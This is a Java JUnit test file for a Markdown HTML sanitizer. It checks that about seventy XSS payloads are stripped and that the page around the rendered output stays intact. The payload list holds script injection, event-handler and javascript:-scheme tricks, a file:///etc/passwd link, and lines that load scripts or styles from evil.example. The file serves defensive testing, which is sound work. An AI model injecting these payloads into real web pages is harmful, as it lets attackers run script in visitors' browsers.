package dev.rollcall.markdown;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever a note holds, the page does not run, load or send anything on its behalf, nor is the page around it harmed. */
class SanitizerTest {
    private static final Set<String> ATTRIBUTES = Set.of(
            "id",
            "class",
            "title",
            "aria-label",
            "href",
            "rel",
            "src",
            "alt",
            "loading",
            "width",
            "height",
            "type",
            "checked",
            "disabled",
            "start",
            "colspan",
            "rowspan",
            "tabindex",
            "role",
            "open",
            "dir",
            "lang");
    private static final Set<String> FORBIDDEN = Set.of(
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "button",
            "svg",
            "math",
            "base",
            "meta",
            "link",
            "video",
            "audio",
            "template",
            "textarea",
            "select",
            "frame",
            "frameset",
            "marquee",
            "noscript",
            "xmp",
            "plaintext");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "a <script>alert(1)</script> b",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<script\n>alert(1)\n</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x\" OnError=\"alert(1)\">",
                "<img src=x:x onerror\n=\nalert(1)>",
                "<img/src=x/onerror=alert(1)>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
                "<embed src=\"https://evil.example/x.swf\">",
                "<form action=\"https://evil.example\"><input type=submit></form>",
                "<button onclick=alert(1)>x</button>",
                "<input type=\"image\" src=\"x\" onerror=\"alert(1)\">",
                "<input autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)><summary>x</summary></details>",
                "<body onload=alert(1)>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"javascript&colon;alert(1)\">x</a>",
                "<a href=vbscript:msgbox(1)>x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<a href=\"x\" target=\"_blank\" onclick=\"alert(1)\" onmouseover='alert(1)'>x</a>",
                "[x](javascript:alert(1))",
                "[x](JAVASCRIPT:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](<java\tscript:alert(1)>)",
                "[x](%6Aavascript:alert(1))",
                "[x](data:text/html,<script>alert(1)</script>)",
                "[x](vbscript:msgbox)",
                "[x](file:///etc/passwd)",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "![x](x\" onerror=\"alert(1))",
                "[x](y \"z\\\" onclick=\\\"alert(1)\")",
                "<javascript:alert(1)>",
                "<https://a.example/\"onclick=\"alert(1)>",
                "https://a.example/\"onclick=\"alert(1)",
                "[r]\n\n[r]: javascript:alert(1)",
                "``` \"><script>alert(1)</script>\nx\n```",
                "```{note} <script>alert(1)</script>\nx\n```",
                ":::info <img src=x onerror=alert(1)>\nx\n:::",
                "{%youtube \"><script>alert(1)</script> %}",
                "{doc}`<script>alert(1)</script> <javascript:alert(1)>`",
                "(\"><script>alert(1)</script>)=",
                "# <script>alert(1)</script>",
                "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|-|-|\n",
                "[^a]\n\n[^a]: <script>alert(1)</script>",
                "<!--><script>alert(1)</script>-->",
                "<!-- --!><script>alert(1)</script>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
                "<plaintext>",
                "<p id=\"page-menu\">x</p><p id=\"d1\">y</p><p id=\"a2\">z</p>",
                "</div></div></main></body></html>",
                "<s><b><div><table><tr><td>",
                "<p class=\"fact decision\">x</p>",
            })
    void lettersNothingHarmfulThrough(String attack) {
        String page = Shown.html(attack + "\n\nafter\n");
        Document document = Jsoup.parse("<main><div id=frame>" + page + "</div><p id=rest>rest</p></main>");
        assertEquals(List.of(), faults(document), page);
        Element rest = document.getElementById("rest");
        assertEquals(
                "main",
                rest == null || rest.parent() == null ? "" : rest.parent().tagName(),
                page);
        assertEquals("rest", rest.html(), page);
        assertEquals("frame", rest.previousElementSibling().id(), page);
    }

    @Test
    void keepsWhatIsHarmless() {
        String html =
                "<details open><summary>More</summary>\n<p align=\"center\"><kbd>K</kbd> <a href=\"x.md\">x</a><br>y</p>\n</details>";
        assertEquals(
                "<details open=\"\"><summary>More</summary>\n<p><kbd>K</kbd> <a href=\"x.md\">x</a><br>y</p>\n</details>",
                Shown.html(html));
    }

    @Test
    void anIdOfAFactOrOfThePageIsRenamed() {
        assertEquals(
                "<p id=\"section-d1\">x <a href=\"#section-page-top\">y</a></p>\n<h2 id=\"section-page-top\">Page-top</h2>",
                Shown.html("<p id=\"d1\">x <a href=\"#page-top\">y</a></p>\n\n## Page-top\n"));
    }

    private static List<String> faults(Document document) {
        return document.body().getAllElements().stream()
                .flatMap(SanitizerTest::faults)
                .distinct()
                .toList();
    }

    private static Stream<String> faults(Element element) {
        Stream<String> tags = FORBIDDEN.contains(element.tagName()) ? Stream.of(element.tagName()) : Stream.of();
        Set<String> names = element.attributes().asList().stream()
                .map(Attribute::getKey)
                .filter(key -> !ATTRIBUTES.contains(key))
                .collect(Collectors.toCollection(TreeSet::new));
        Stream<String> addresses = Stream.of("href", "src").map(element::attr).filter(address -> !isHarmless(address));
        Stream<String> ids = Stream.of(element.id()).filter(id -> id.matches("[dai][0-9]+|page-.*"));
        Stream<String> facts = element.classNames().stream().filter(c -> c.equals("fact"));
        return Stream.of(tags, names.stream(), addresses, ids, facts).flatMap(s -> s);
    }

    private static boolean isHarmless(String address) {
        String plain = address.strip().toLowerCase(Locale.ROOT);
        boolean scheme = plain.matches("[a-z][a-z0-9+.-]*:.*");
        return !scheme || plain.startsWith("http:") || plain.startsWith("https:") || plain.startsWith("mailto:");
    }
}
